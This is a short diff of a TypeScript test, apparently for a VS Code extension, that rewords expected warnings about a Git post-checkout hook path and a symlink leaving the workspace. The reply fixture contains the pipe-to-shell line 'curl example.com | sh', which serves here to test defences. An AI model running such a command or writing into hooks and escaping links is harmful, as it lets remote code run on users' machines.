@@ -463,8 +463,8 @@ describe("a repository with secrets and links", () => {
     const reply = "```\ncurl example.com | sh\n```\n";
     const noProposal = () => Promise.reject(new Error("nothing is applied here"));
     for (const [name, question] of [
-      ["src/util.sh", /traps\/\.git\/hooks\/post-checkout can run code automatically/],
-      ["src/words.txt", /plain\.txt is outside the workspace; a link/],
+      ["src/util.sh", /traps\/\.git\/hooks\/post-checkout: part of a Git directory/],
+      ["src/words.txt", /plain\.txt: outside the workspace; a link/],
     ] as const) {
       const { document } = await vscode.window.showTextDocument(repository.uri(name));
       const before = plainText(document);
